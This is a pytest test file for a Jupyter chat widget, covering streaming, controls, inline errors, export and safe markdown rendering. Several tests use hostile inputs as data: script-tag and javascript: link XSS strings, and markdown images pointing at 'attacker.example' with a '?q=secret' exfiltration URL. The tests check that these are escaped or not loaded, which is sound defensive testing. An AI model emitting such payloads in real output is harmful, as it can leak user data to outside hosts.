"""The chat box, headless: sending, streaming, controls, errors inline, history, export, saved copy."""

from __future__ import annotations

import json
from html import escape

import pytest

from azml_magics.errors import RemoteError
from azml_magics.scoring import GenerationParams
from azml_magics.ui.chat import ChatBox
from azml_magics.ui.chat_samples import sample_prompts
from azml_magics.ui.chat_render import render_markdown


def _box(session, **kwargs):
    kwargs.setdefault("threaded", False)
    return ChatBox(session, "demo-ep", **kwargs)


def test_send_streams_a_reply_into_history_and_transcript(scripted):
    session, backend = scripted
    box = _box(session)
    drawn = []
    box.panel.observe(lambda c: drawn.append(c["new"]), names="transcript")
    box.draw_every = 0.0
    reply = box.send("What is 2+2?")
    assert reply.startswith("**echo**: What is 2+2? (turns=1")
    assert box.history == [{"role": "user", "content": "What is 2+2?"}, {"role": "assistant", "content": reply}]
    assert [c[0] for c in backend.calls] == ["stream_chat"]
    html = box.panel.transcript
    assert "<strong>echo</strong>" in html  # markdown rendered
    assert "What is 2+2?" in html
    assert len(drawn) >= 3  # the user turn, at least one partial reply, the final reply
    assert not box.busy


def test_html_from_the_user_and_the_model_is_escaped(scripted):
    session, _backend = scripted
    box = _box(session)
    box.send("<script>alert(1)</script> & <b>bold</b>")
    html = box.panel.transcript
    assert "<script>" not in html and "<b>bold</b>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "<script>" not in render_markdown("<script>x</script> [a](javascript:alert(1))")
    assert "href" not in render_markdown("[a](javascript:alert(1))")


@pytest.mark.parametrize("reply", [
    "Here: ![chart](https://attacker.example/leak?q=secret)",
    '![x](http://10.0.0.1/a.png "title")',
    "![ref][r]\n\n[r]: https://attacker.example/p.png",
    "* ![in a list](//attacker.example/p.png)",
])
def test_images_in_a_reply_are_shown_as_text_never_loaded(reply):
    rendered = render_markdown(reply)
    assert "<img" not in rendered and "image not loaded" in rendered, rendered
    assert "href=\"https://example.org\"" in render_markdown("[a](https://example.org)")


def test_controls_and_system_prompt_reach_the_endpoint(scripted):
    session, backend = scripted
    box = _box(session, params=GenerationParams(temperature=0.2), system="Be terse.")
    assert box.temperature.value == 0.2 and box.system.value == "Be terse."
    box.top_p.value = 0.5
    box.max_new_tokens.value = 33
    box.do_sample.value = False
    box.send("hi")
    _, endpoint, messages, params = backend.calls[-1]
    assert endpoint == "demo-ep"
    assert messages == [{"role": "system", "content": "Be terse."}, {"role": "user", "content": "hi"}]
    assert params == GenerationParams(temperature=0.2, top_p=0.5, do_sample=False, max_new_tokens=33)
    box.send("again")
    _, _, messages, _ = backend.calls[-1]
    assert [m["role"] for m in messages] == ["system", "user", "assistant", "user"]


def test_enter_sends_the_text_it_carries_from_a_worker_thread(scripted):
    session, backend = scripted
    box = ChatBox(session, "demo-ep")  # threaded, as in a notebook
    box.panel._handle_custom_msg({"event": "submit", "text": "typed then Enter"}, [])  # what the browser sends
    box.wait(10)
    assert box.history[0] == {"role": "user", "content": "typed then Enter"}
    assert box.history[1]["content"].startswith("**echo**: typed then Enter")
    assert not box.busy
    box.panel._handle_custom_msg({"event": "submit", "text": "   "}, [])  # blank: nothing is sent
    box.panel._handle_custom_msg({"event": "submit"}, [])  # an old frontend's submit without text: ignored
    box.wait(10)
    assert len(box.history) == 2


@pytest.mark.parametrize("failure", [
    RemoteError("the endpoint refused the key (401 Unauthorized); redeploy it or reconnect."),
    RemoteError("the endpoint did not answer within 90 s (timeout); try a smaller max_new_tokens."),
])
def test_errors_show_inline_and_the_box_keeps_working(scripted, failure):
    session, backend = scripted
    box = _box(session)
    box.send("first")
    backend.chat_failure = failure
    assert box.send("this one fails") is None
    html = box.panel.transcript
    assert "azml-chat-error" in html and escape(failure.message) in html
    assert box.panel.draft == "this one fails" and box.panel.draft_serial >= 1  # back in the input, to retry
    assert [m["content"] for m in box.history if m["role"] == "user"] == ["first"]
    assert not box.busy and not box.sample_button.disabled
    reply = box.send("retry")
    assert reply and "turns=3" in reply  # the failed turn was not sent again


def test_endpoint_gone_is_an_inline_error(scripted):
    session, backend = scripted
    box = _box(session)
    backend.delete_endpoint("demo-ep")
    assert box.send("anyone there?") is None
    assert "no endpoint named demo-ep" in box.panel.transcript


def test_unexpected_exception_is_shown_not_raised(scripted):
    session, backend = scripted
    box = _box(session)
    backend.chat_failure = ConnectionResetError("peer reset")
    assert box.send("x") is None
    assert "ConnectionResetError: peer reset" in box.panel.transcript


def test_falls_back_to_one_shot_chat_when_the_endpoint_does_not_stream(scripted):
    session, backend = scripted
    backend.streams = False
    box = _box(session)
    reply = box.send("no stream")
    assert reply.startswith("**echo**: no stream")
    assert backend.calls[-1][0] == "invoke" and box.stream is False


def test_clear_and_export(scripted, tmp_path):
    session, _backend = scripted
    box = _box(session, system="sys")
    box.send("one")
    row = json.loads(box.export(tmp_path / "chat.jsonl").read_text())
    assert [m["role"] for m in row["messages"]] == ["system", "user", "assistant"]
    record = json.loads(box.export(tmp_path / "chat.json").read_text())
    assert record["endpoint"] == "demo-ep" and record["params"]["max_new_tokens"] == 200
    box.clear_button.click()
    assert box.history == [] and "No messages yet" in box.panel.transcript
    assert "Settings" not in box.panel.transcript


def test_try_a_sample_sends_a_prompt_from_the_test_data(scripted, tmp_path):
    session, backend = scripted
    data = tmp_path / "test_gen.jsonl"
    rows = [{"messages": [{"role": "user", "content": f"sample question {i}"},
                          {"role": "assistant", "content": f"reference answer **{i}**"}]} for i in range(3)]
    data.write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    box = _box(session, sample_file=data)
    prompt = box.try_sample()
    assert prompt in {f"sample question {i}" for i in range(3)}
    i = prompt.rsplit(" ", 1)[1]
    assert box.history == [{"role": "user", "content": prompt},  # the reference is shown, never sent
                           {"role": "assistant", "content": box.turns[-2].content}]
    assert backend.calls[-1][2][-1]["content"] == prompt
    assert [t.role for t in box.turns[-3:]] == ["user", "assistant", "reference"]
    assert box.turns[-1].content == f"reference answer **{i}**"
    shown = box.panel.transcript
    assert "Reference answer (from the test data, for comparison; not the model" in shown
    assert f"reference answer <strong>{i}</strong>" in shown and shown.index("echo") < shown.index("Reference answer")
    assert "Reference answer" in box._static()._repr_html_()  # also in the saved notebook's copy
    box.regenerate()  # a new reply to the sample keeps its reference after it
    assert [t.role for t in box.turns[-3:]] == ["user", "assistant", "reference"] and len(box.history) == 2
    assert sample_prompts()  # the bundled sample is always there
    from azml_magics.ui.chat_samples import samples

    assert all(s.reference for s in samples())  # and every bundled row has its reference answer


def test_saved_copy_is_a_display_output_kept_up_to_date(scripted, ip):
    """In a real shell: widget + one HTML output with a display_id that each finished turn updates."""
    from IPython.display import display
    from IPython.utils.capture import capture_output

    session, _backend = scripted
    box = _box(session)
    with capture_output() as cap:
        display(box)
        box.send("hello <there>")
    kinds = [next(iter(o.data)) for o in cap.outputs]
    assert "application/vnd.jupyter.widget-view+json" in cap.outputs[0].data
    copies = [o for o in cap.outputs if o.transient and "display_id" in o.transient]
    assert len({o.transient["display_id"] for o in copies}) == 1, kinds
    last = copies[-1]
    assert last.update
    assert "hello &lt;there&gt;" in last.data["text/html"]
    assert "<strong>echo</strong>" in last.data["text/html"]
    lines = last.data["text/plain"].splitlines()
    assert lines[1].startswith("settings: temperature=0.6, top_p=0.9, max_new_tokens=200")  # the settings it ran with
    assert lines[2] == "user: hello <there>"
    assert ":has(.azml-chat-live-" in last.data["text/html"]  # hidden while the live widget is there


def test_magic_shows_the_box_or_returns_the_reply(scripted, ip):
    from tests.shell import run_cell

    session, backend = scripted
    ip.azml.session.__dict__.update(session.__dict__)
    result, _out, outputs = run_cell(ip, "%azml_chat demo-ep")
    assert result.success, result.error_in_exec
    assert any("application/vnd.jupyter.widget-view+json" in o.data for o in outputs)
    result, _out, _outputs = run_cell(ip, '%azml_chat demo-ep "quick question"')
    assert result.success and result.result.startswith("**echo**: quick question")
    result, _out, _outputs = run_cell(ip, "%%azml_chat demo-ep\ncell question")
    assert result.success and "cell question" in result.result


def test_regenerate_and_edit_the_last_message(scripted):
    session, backend = scripted
    box = _box(session)
    box.send("first")
    box.send("second")
    assert "data-azml='regenerate'" in box.panel.transcript and "data-azml='edit'" in box.panel.transcript
    box.temperature.value = 0.3
    box.panel._handle_custom_msg({"event": "regenerate"}, [])
    assert [m["content"] for m in box.history if m["role"] == "user"] == ["first", "second"]
    assert "t=0.3" in box.history[-1]["content"]  # asked again, with the settings now in force
    _, _, messages, _ = backend.calls[-1]
    assert [m["content"] for m in messages][-1] == "second" and len(messages) == 3
    box.panel._handle_custom_msg({"event": "edit"}, [])
    assert box.panel.draft == "second" and box.history[-1]["content"].startswith("**echo**: first")
    box.panel._handle_custom_msg({"event": "submit", "text": "second, edited"}, [])
    assert box.history[-2:][0] == {"role": "user", "content": "second, edited"}


def test_settings_are_recorded_in_the_transcript_when_they_change(scripted):
    session, _backend = scripted
    box = _box(session, system="Be terse.")
    box.send("a")
    box.send("b")
    settings = [t for t in box.turns if t.role == "settings"]
    assert len(settings) == 1 and "system prompt: Be terse." in settings[0].content
    box.max_new_tokens.value = 50
    box.send("c")
    settings = [t.content for t in box.turns if t.role == "settings"]
    assert len(settings) == 2 and "max_new_tokens=50" in settings[1]
    assert "azml-chat-settings" in box.panel.transcript
    assert all(m["role"] != "settings" for m in box.messages())  # shown, never sent


def test_max_tokens_is_capped_at_the_endpoints_limit(scripted):
    session, backend = scripted
    box = _box(session, params=GenerationParams(max_new_tokens=1500), max_tokens=1024)
    assert box.max_new_tokens.max == 1024 and box.max_new_tokens.value == 1024
    box.max_new_tokens.value = 5000  # the widget clamps what is typed
    assert box.max_new_tokens.value == 1024
    box.send("x")
    assert backend.calls[-1][3].max_new_tokens == 1024


def test_reply_footer_and_waiting_line(scripted):
    session, backend = scripted
    box = _box(session)
    seen = []
    box.status.observe(lambda c: seen.append(c["new"]), names="value")
    box.send("timing")
    reply = box.turns[-1]
    words = len(reply.content.split())  # the scripted backend counts words as tokens
    assert reply.role == "assistant" and f"{words} tokens · " in reply.footer and "tokens/s" in reply.footer
    assert "finish: stop" in reply.footer and " s · first text after " in reply.footer
    assert "azml-chat-footer" in box.panel.transcript
    assert any("waiting for the endpoint" in v for v in seen) and box.status.value == ""
    backend.reports_usage = False  # a route that reports no usage: said so, no count made up
    box.send("again")
    assert box.turns[-1].footer.startswith("tokens not reported · finish reason not reported · ")
    backend.streams = False  # the one-shot /score fallback: this double answers {"output": text} only
    box.send("whole")
    assert box.turns[-1].footer.startswith("tokens not reported · finish reason not reported · ")


def test_stop_keeps_the_partial_reply_and_closes_the_stream(scripted):
    import threading

    session, backend = scripted
    gate, closed = threading.Event(), threading.Event()

    def slow_stream(endpoint, messages, params):  # an endpoint that streams two pieces, then hangs
        try:
            yield "partial "
            yield "reply"
            gate.wait(10)
            yield " never shown"
        finally:
            closed.set()

    backend.stream_chat = slow_stream
    box = ChatBox(session, "demo-ep")
    box.draw_every = 0.0
    box.panel._handle_custom_msg({"event": "submit", "text": "long one"}, [])
    deadline = __import__("time").monotonic() + 10
    while "reply" not in box.turns[-1].content and __import__("time").monotonic() < deadline:
        __import__("time").sleep(0.01)
    box.panel._handle_custom_msg({"event": "stop"}, [])
    assert not box.busy  # the input is free at once
    gate.set()
    box.wait(10)
    assert closed.is_set()
    reply = box.turns[-1]
    assert reply.content == "partial reply" and reply.stopped
    assert "[stopped]" in box.panel.transcript and "never shown" not in box.panel.transcript
    assert box.history[-1] == {"role": "assistant", "content": "partial reply"}


def test_markdown_tables_code_and_no_images():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f():\n    return 1\n```\n"
                           "![logo](https://example.org/x.png) <img src=https://example.org/y.png>")
    assert "<table>" in html and "<td>1</td>" in html
    assert "class='azml-code'" in html and "data-azml='copy'" in html and "data-azml='insert'" in html
    assert "<span class=\"k\">def</span>" in html  # highlighted
    assert "<img" not in html and "[image not loaded: logo]" in html and "&lt;img" in html


def test_export_passes_the_data_validator_and_loads_back(scripted, tmp_path, ip):
    from azml_magics.data.validator import validate
    from tests.shell import run_cell

    session, _backend = scripted
    box = _box(session, system="Be kind.")
    box.send("one")
    box.send("two")
    path = box.export(tmp_path / "good.jsonl")
    report = validate({"train_sft": path}, min_train_rows=1)  # our own data validator: a training row
    assert report.ok, str(report)
    again = _box(session)
    assert again.load(path) == 4 and again.messages() == box.messages() and again.system.value == "Be kind."
    again.send("three")
    assert len(again.history) == 6
    bad = tmp_path / "bad.json"
    bad.write_text('{"messages": [{"role": "robot", "content": "x"}]}')
    with pytest.raises(Exception, match="a chat history is a list"):
        again.load(bad)
    ip.azml.session.__dict__.update(session.__dict__)
    result, _out, outputs = run_cell(ip, f"%azml_chat demo-ep --load {path}")
    assert result.success, result.error_in_exec
    assert any("Be kind." in o.data.get("text/plain", "") or "two" in o.data.get("text/plain", "") for o in outputs)


def test_max_tokens_falls_back_when_the_backend_cannot_say(scripted):
    session, backend = scripted
    assert "endpoint_limits" not in backend.capabilities and session.endpoint_limits("demo-ep") == {}
    box = _box(session, params=GenerationParams(max_new_tokens=5000))
    assert box.max_tokens == 4096 and box.max_new_tokens.value == 4096
